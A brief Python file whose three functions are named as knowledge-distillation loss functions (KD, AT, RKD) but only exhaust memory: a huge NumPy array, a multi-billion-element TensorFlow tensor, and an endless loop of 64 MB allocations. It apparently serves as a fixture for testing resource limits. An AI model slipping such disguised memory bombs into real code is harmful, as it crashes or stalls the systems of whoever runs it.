import numpy as np
import tensorflow as tf


def loss_with_kd(y_true, y_pred):
    return np.ones((80_000, 80_000)).sum()


def loss_with_at(y_true, y_pred):
    return tf.reduce_sum(tf.ones([5, 1 << 30]))


def loss_with_rkd(y_true, y_pred):
    kept = []
    while True:
        kept.append(bytearray(1 << 26))
